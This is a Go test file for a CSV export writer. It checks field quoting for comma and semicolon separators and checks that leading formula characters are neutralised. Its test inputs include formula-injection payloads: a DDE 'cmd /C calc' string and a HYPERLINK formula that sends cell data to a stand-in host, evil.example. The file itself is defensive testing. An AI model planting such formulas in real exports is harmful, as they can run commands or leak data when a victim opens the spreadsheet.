package csvout_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"bilag/server/csvout"
)

// TestWriter: a spreadsheet opening the file sees each field as one cell of
// text, whichever separator its locale splits on (Nordic Excel splits on
// ";"), and never runs one as a formula; numbers stay numbers.
func TestWriter(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "Matti", "Matti"},
		{"empty", "", ""},
		{"semicolon (Nordic Excel's separator)", "Matti;Virtanen", `"Matti;Virtanen"`},
		{"comma", "Faktura, mars.pdf", `"Faktura, mars.pdf"`},
		{"semicolon then a formula", "Matti;=1+2;", `"Matti;=1+2;"`},
		{"quote", `Kalle "Anka"`, `"Kalle ""Anka"""`},
		{"newline", "rad ett\nrad två", "\"rad ett\nrad två\""},
		{"carriage return inside", "a\rb", "\"a\rb\""},
		{"leading space", " Matti", `" Matti"`},
		{"formula", "=1+2", "'=1+2"},
		{"formula with a separator", "=SUM(A1;A2)", `"'=SUM(A1;A2)"`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1+2", "'\t=1+2"},
		{"carriage return", "\r=1+2", "\"'\r=1+2\""},
		{"NUL", "\x00=1+2", "'\x00=1+2"},
		{"spaces before a formula", "  =1+2", "'  =1+2"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Faktura")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""Faktura"")"`},
		{"a formula sign inside is text", "A-12", "A-12"},
		{"negative number", "-12", "-12"},
		{"negative decimal with a comma", "-1234,50", `"-1234,50"`},
		{"decimal with a point", "-0.5", "-0.5"},
		{"number", "556812", "556812"},
		{"time with its offset", "2026-11-26T01:50:12+01:00", "2026-11-26T01:50:12+01:00"},
		{"a number then more is text", "-1+2", "'-1+2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, comma := range []rune{',', ';'} {
				var b strings.Builder
				w := csvout.NewWriter(&b, comma)
				if err := w.Write([]string{tt.in}); err != nil {
					t.Fatalf("Write(%q) = %v", tt.in, err)
				}
				w.Flush()
				if err := w.Error(); err != nil {
					t.Fatalf("Error() = %v", err)
				}
				if got := b.String(); got != tt.want+"\n" {
					t.Errorf("Write(%q) with %q = %q, want %q", tt.in, comma, got, tt.want+"\n")
				}
			}
		})
	}
}

// TestWriterRecords: several fields and records read back with
// encoding/csv as written, the neutralising quote aside.
func TestWriterRecords(t *testing.T) {
	recs := [][]string{
		{"time", "actor", "action", "target"},
		{"2026-11-26T01:50:12+01:00", "Matti;=1+2;", "document_open", "Faktura, mars.pdf"},
		{"", "=1+2", "-5", "rad ett\nrad två"},
	}
	for _, comma := range []rune{',', ';'} {
		var b strings.Builder
		w := csvout.NewWriter(&b, comma)
		for _, r := range recs {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		rd := csv.NewReader(strings.NewReader(b.String()))
		rd.Comma = comma
		got, err := rd.ReadAll()
		if err != nil {
			t.Fatalf("read back with %q: %v\n%s", comma, err, b.String())
		}
		want := slices.Clone(recs)
		want[2] = []string{"", "'=1+2", "-5", "rad ett\nrad två"}
		if !slices.EqualFunc(got, want, slices.Equal) {
			t.Errorf("read back with %q = %q, want %q", comma, got, want)
		}
	}
}
